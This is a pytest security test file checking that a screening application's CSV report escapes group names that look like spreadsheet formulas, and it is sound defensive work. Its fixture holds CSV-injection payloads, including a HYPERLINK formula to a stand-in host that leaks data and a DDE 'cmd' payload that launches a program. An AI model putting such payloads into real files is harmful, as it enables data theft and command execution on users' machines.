"""CSV formula injection: `report --format csv` opens in Excel, which runs a cell that starts with
`=`, `+`, `-` or `@` (and one starting with a tab or a carriage return) as a formula. The group names come
from the directory; each text cell that starts so is written with a single quote before it (OWASP's
advice), while the figures the report computes stay numbers, negative ones too."""

from __future__ import annotations

import csv
import io
import re

import pytest

from screening.report import figure_names
from screening.report_formats import csv_bytes
from tests.e2e.support import COORDINATOR, HC, RECEPTION, register
from tests.security.directories import bundled_with

NOW = "2026-11-23T10:00"
FORMULAS = {  # municipality (or the region) -> a name Excel would run
    "Berg": '=HYPERLINK("http://x.example/?leak","y")',
    "Bräcke": "+cmd|' /C calc'!A0",
    "Ragunda": "-2+3",
    "Strömsund": "@SUM(1)",
    "Region Jämtland Härjedalen": "=1+1",
}
NUMBER = re.compile(r"-?\d+(,\d+)?")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))


def formula_cells(table: list[list[str]]) -> list[str]:
    """Every cell Excel would read as a formula: one that starts with a formula character and is not a
    plain number."""
    return [cell for row in table for cell in row if cell.startswith(DANGEROUS) and not NUMBER.fullmatch(cell)]


@pytest.fixture
def hostile(run, cli_db, tmp_path):
    """The demo region whose municipalities and region are named like formulas, with one child whose
    health conversation was held before its expected arrival (a negative duration: a number)."""
    path = bundled_with(tmp_path, FORMULAS)
    loaded = run("init", "--directory", path, db=cli_db, user="admin")
    assert loaded.code == 0, loaded.err
    case_id = register(run, cli_db, "--dossier", "31000001", "--arrival", "2026-11-30", now=NOW)
    assert run("case", "event", case_id, "notify_parties", db=cli_db, user=RECEPTION, now=NOW).code == 0
    booked = run("case", "event", case_id, "book_health_conversation", "--set", "start=2026-11-24T09:00",
                 db=cli_db, user=HC, now=NOW)
    assert booked.code == 0, booked.err
    held = run("case", "event", case_id, "hold_health_conversation", db=cli_db, user=HC, now="2026-11-24T10:00")
    assert held.code == 0, held.err
    return cli_db


def test_directory_names_that_look_like_formulas_are_text_in_the_csv(run, hostile, monkeypatch):
    monkeypatch.setenv("SCREENING_MIN_GROUP", "1")  # one child's figures shown: the negative duration
    result = run("report", "--format", "csv", db=hostile, user=COORDINATOR, now="2026-11-24T12:00", json_output=False)
    assert result.code == 0, result.err
    table = rows_of(result.out)
    assert formula_cells(table) == []
    groups = [row[0] for row in table[1:]]
    for name in ("Berg", "Bräcke", "Ragunda", "Strömsund"):
        assert "'" + FORMULAS[name] in groups
    assert "'=1+1 (hela regionen)" in groups
    header, ostersund = table[0], next(row for row in table if row[0] == "Östersund")
    assert ostersund[header.index("Dagar ankomst → hälsosamtal, median")] == "-6"  # a number, not text
    assert ostersund[header.index("Anmälningar (barn)")] == "1"


def test_grouped_by_health_centre_no_cell_is_a_formula(run, hostile):
    result = run("report", "--by", "health_centre", "--format", "csv", db=hostile, user=COORDINATOR,
                 now="2026-11-24T12:00", json_output=False)
    assert result.code == 0, result.err
    table = rows_of(result.out)
    assert formula_cells(table) == []
    assert "'=1+1 (hela regionen)" in [row[0] for row in table[1:]]


@pytest.mark.parametrize("name", ["=1+1", "+1", "-1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "\tx", "\rx"])
def test_every_text_cell_that_starts_with_a_formula_character_is_quoted(name):
    """A group name stored before the directory refused control characters (a tab, a CR) is escaped too;
    the report's own numbers, negative medians included, are left as numbers."""
    figures = {key: -2.5 if key.endswith("_median") else 3 for key in figure_names()}
    report = {"by": "municipality", "min_group": 5, "rows": [
        {"group": name, "level": "group", "suppressed": False, **figures},
        {"group": name, "level": "region", "suppressed": False, **figures}]}
    table = rows_of(csv_bytes(report).decode("utf-8"))
    assert [row[0] for row in table[1:]] == ["'" + name, f"'{name} (hela regionen)"]
    assert formula_cells(table) == []
    assert table[1][table[0].index("Dagar ankomst → hälsosamtal, median")] == "-2,5"
